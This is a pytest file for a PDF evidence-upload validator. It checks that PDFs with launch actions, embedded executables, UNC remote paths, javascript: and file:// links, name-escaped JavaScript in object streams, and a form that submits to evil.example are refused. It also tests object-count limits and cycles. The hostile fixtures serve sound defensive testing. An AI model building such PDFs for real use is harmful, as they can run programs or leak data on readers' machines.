"""The PDF evidence check walks the document's objects (DESIGN.md §5, issue 11 point 6).

Every attached file, program launch, link to another file or network path, address opened by itself,
script, XFA form and media player is refused wherever it sits — in an annotation, a nested dictionary, a
names tree kid, a bookmark, a page's or form field's additional actions, an object stream, a /Next chain —
with the refusal naming what was found. What ordinary documents carry (links to web pages, e-mail
addresses and places in the file, bookmarks, an opening view) is accepted. Cycles end; a file too large to
walk is refused instead of holding up the upload.
"""

from __future__ import annotations

import pytest

from evidence import validators
from evidence.validators import EvidenceRejected, PdfFinding, check_evidence_bytes
from tests import files
from tests.files import (
    JAVASCRIPT_ACTION,
    LAUNCH_ACTION,
    REMOTE_GOTO_ACTION,
    URI_ACTION,
    handmade_pdf,
    pdf_with_action_cycle,
    pdf_with_link,
    pdf_with_open_action,
)

MAX_BYTES = 20 * 1024 * 1024


def _refusal(data: bytes) -> EvidenceRejected:
    with pytest.raises(EvidenceRejected) as caught:
        check_evidence_bytes(data, max_bytes=MAX_BYTES)
    return caught.value


def _widget(action_entries: bytes) -> bytes:
    """A push button on the page (a form field and its widget in one dictionary) with the given actions."""
    return handmade_pdf(
        catalog=b"/AcroForm << /Fields [4 0 R] >>",
        page=b"/Annots [4 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 72 200 100] %b >>"
            % action_entries
        ],
    )


ATTACKS = {
    # Attached files, however they are attached.
    "file-attachment-annotation-without-embeddedfile-type": (
        files.pdf_with_file_attachment_annotation(),
        PdfFinding.ATTACHMENT,
    ),
    "ef-in-a-nested-direct-dictionary": (files.pdf_with_nested_embedded_file(), PdfFinding.ATTACHMENT),
    "embedded-files-names-tree-with-kids": (files.pdf_with_embedded_files_tree(), PdfFinding.ATTACHMENT),
    "embedded-file-stream-used-by-nothing": (
        handmade_pdf(objects=[b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]),
        PdfFinding.ATTACHMENT,
    ),
    "go-to-embedded-file": (
        pdf_with_link(b"<< /S /GoToE /T << /R /C /N (run.pdf) >> /D [0 /Fit] >>"),
        PdfFinding.ATTACHMENT,
    ),
    # Programs and other files.
    "launch-on-open": (pdf_with_open_action(LAUNCH_ACTION), PdfFinding.LAUNCH),
    "launch-at-the-end-of-a-link-next-chain": (
        pdf_with_link(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> %b] >>" % LAUNCH_ACTION
        ),
        PdfFinding.LAUNCH,
    ),
    "go-to-remote-unc-path-on-click": (pdf_with_link(REMOTE_GOTO_ACTION), PdfFinding.REMOTE_FILE),
    "go-to-remote-on-open": (pdf_with_open_action(REMOTE_GOTO_ACTION), PdfFinding.REMOTE_FILE),
    "article-thread-in-another-file": (
        pdf_with_link(b"<< /S /Thread /F (\\\\\\\\server\\\\share\\\\x.pdf) /D 0 >>"),
        PdfFinding.REMOTE_FILE,
    ),
    "stream-data-from-an-outside-file": (
        handmade_pdf(
            page=b"/Thumb 4 0 R",  # the page's thumbnail picture
            objects=[
                b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /F (\\\\\\\\server\\\\share\\\\pixel.bin) /Length 0 >>\nstream\n\nendstream"
            ],
        ),
        PdfFinding.EXTERNAL_DATA,
    ),
    # Addresses opened without a click, and addresses that are not web pages.
    "uri-on-open": (pdf_with_open_action(URI_ACTION), PdfFinding.URI_ON_OPEN),
    "uri-when-the-page-opens": (files.pdf_with_page_open_action(URI_ACTION), PdfFinding.URI_ON_OPEN),
    "uri-when-the-pointer-enters-a-field": (_widget(b"/AA << /E %b >>" % URI_ACTION), PdfFinding.URI_ON_OPEN),
    "uri-next-after-an-opening-go-to": (
        pdf_with_open_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next %b >>" % URI_ACTION),
        PdfFinding.URI_ON_OPEN,
    ),
    "uri-in-a-cyclic-opening-chain": (pdf_with_action_cycle(URI_ACTION), PdfFinding.URI_ON_OPEN),
    "link-to-a-file-url": (
        pdf_with_link(b"<< /S /URI /URI (file:///C:/Windows/calc.exe) >>"),
        PdfFinding.URI_NOT_WEB,
    ),
    "link-to-a-unc-path": (
        pdf_with_link(b"<< /S /URI /URI (\\\\\\\\server\\\\share) >>"),
        PdfFinding.URI_NOT_WEB,
    ),
    "link-to-javascript-url": (
        pdf_with_link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
        PdfFinding.URI_NOT_WEB,
    ),
    # Scripts wherever they are.
    "javascript-in-a-bookmark": (files.pdf_with_outline_action(JAVASCRIPT_ACTION), PdfFinding.JAVASCRIPT),
    "javascript-in-a-link": (pdf_with_link(JAVASCRIPT_ACTION), PdfFinding.JAVASCRIPT),
    "javascript-in-an-object-stream-with-escaped-names": (
        pdf_with_link(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", compressed=True),
        PdfFinding.JAVASCRIPT,
    ),
    "javascript-names-tree": (
        handmade_pdf(catalog=b"/Names << /JavaScript << /Names [(init) %b] >> >>" % JAVASCRIPT_ACTION),
        PdfFinding.JAVASCRIPT,
    ),
    "javascript-before-the-document-closes": (
        handmade_pdf(catalog=b"/AA << /WC %b >>" % JAVASCRIPT_ACTION),
        PdfFinding.JAVASCRIPT,
    ),
    "javascript-in-a-cyclic-opening-chain": (pdf_with_action_cycle(JAVASCRIPT_ACTION), PdfFinding.JAVASCRIPT),
    # Forms that send or fetch data, XFA, media.
    "submit-form-button": (
        _widget(b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
        PdfFinding.SUBMIT_FORM,
    ),
    "import-data-button": (_widget(b"/A << /S /ImportData /F (data.fdf) >>"), PdfFinding.IMPORT_DATA),
    "xfa-form": (files.pdf_with_xfa(), PdfFinding.XFA),
    "rich-media-annotation": (
        handmade_pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"),
        PdfFinding.MEDIA,
    ),
    "sound-on-open": (pdf_with_open_action(b"<< /S /Sound /Sound 4 0 R >>"), PdfFinding.MEDIA),
}


@pytest.mark.parametrize("case", list(ATTACKS))
def test_hostile_pdf_is_refused_naming_what_was_found(case):
    """Each attack is refused, in Bangla and English, with what was found in the message."""
    data, finding = ATTACKS[case]
    refusal = _refusal(data)
    assert finding.value[0] in refusal.message_bn
    assert finding.value[1] in refusal.message_en


def test_refusal_names_everything_found_in_a_fixed_order():
    """A file with an attached file and a script on open gets one refusal naming both, files first."""
    data = handmade_pdf(
        catalog=b"/OpenAction %b" % JAVASCRIPT_ACTION,
        page=b"/Annots [4 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 5 0 R >> >> >>",
            b"<< /Length 2 >>\nstream\nMZ\nendstream",
        ],
    )
    refusal = _refusal(data)
    assert "সংযুক্ত ফাইল (attachment), স্ক্রিপ্ট (JavaScript) আছে" in refusal.message_bn
    assert "attached files, scripts (JavaScript)" in refusal.message_en


def test_pdf_with_ordinary_links_bookmarks_and_opening_view_is_accepted():
    """Links to a web page, an e-mail address and a place in the file, a bookmark and an opening view of the
    first page (so the page is also reached from /OpenAction) are accepted."""
    assert check_evidence_bytes(files.pdf_with_ordinary_links(), max_bytes=MAX_BYTES).page_count == 1


def test_ordinary_link_in_an_object_stream_is_accepted():
    assert check_evidence_bytes(pdf_with_link(files.WEB_LINK_ACTION, compressed=True), max_bytes=MAX_BYTES)


def test_cycles_end():
    """A /Next chain of actions that loops, and bookmarks whose /Next loops, are walked once and accepted."""
    assert check_evidence_bytes(pdf_with_action_cycle(None), max_bytes=MAX_BYTES).page_count == 1
    looping_bookmarks = handmade_pdf(
        catalog=b"/Outlines 4 0 R",
        objects=[
            b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
            b"<< /Title (One) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] /First 5 0 R >>",
            b"<< /Title (Two) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>",
        ],
    )
    assert check_evidence_bytes(looping_bookmarks, max_bytes=MAX_BYTES).page_count == 1


TOO_LARGE = "গঠন অস্বাভাবিক রকম বড়"


def test_file_listing_more_objects_than_the_limit_is_refused_before_the_walk():
    """A small file (object streams compress well) that lists more objects than MAX_PDF_OBJECTS is refused
    from its cross-reference table alone."""
    data = handmade_pdf(objects=[b"null"] * validators.MAX_PDF_OBJECTS, compressed=True)
    assert len(data) < 2 * 1024 * 1024
    refusal = _refusal(data)
    assert TOO_LARGE in refusal.message_bn and "too many objects" in refusal.message_en


def test_references_to_objects_that_do_not_exist_count_towards_the_limit(monkeypatch):
    """References to objects no table lists still cost the walk: they count, and too many are refused."""
    monkeypatch.setattr(validators, "MAX_PDF_OBJECTS", 100)
    references = b" ".join(b"%d 0 R" % number for number in range(1000, 1100))
    assert _refusal(handmade_pdf(catalog=b"/Extra [%b]" % references)).message_bn.count(TOO_LARGE) == 1
    references = b" ".join(b"%d 0 R" % number for number in range(1000, 1090))
    assert check_evidence_bytes(handmade_pdf(catalog=b"/Extra [%b]" % references), max_bytes=MAX_BYTES)


def test_too_many_values_are_refused(monkeypatch):
    """Direct values count as well: a walk that would look at more than MAX_PDF_VALUES stops and refuses."""
    monkeypatch.setattr(validators, "MAX_PDF_VALUES", 500)
    assert TOO_LARGE in _refusal(handmade_pdf(catalog=b"/Extra [%b]" % (b"0 " * 600))).message_bn


def test_object_the_document_uses_but_no_reader_can_read_is_refused_as_damaged():
    """What cannot be read cannot be checked (and another reader may read it differently): an opening
    action that does not parse makes the file damaged, not harmless."""
    data = handmade_pdf(catalog=b"/OpenAction 4 0 R", objects=[b"\x00\x01 not an object"])
    assert "ভাঙা বা অসম্পূর্ণ" in _refusal(data).message_bn


def test_pypdf_reaching_its_own_limits_is_a_refusal_not_a_server_error():
    """An array longer than pypdf reads (100,000 entries) made pypdf's LimitReachedError escape the check
    (a 500 in the upload view); it is refused as too large to check."""
    data = handmade_pdf(catalog=b"/Extra [%b]" % (b"0 " * 100_001))
    assert TOO_LARGE in _refusal(data).message_bn
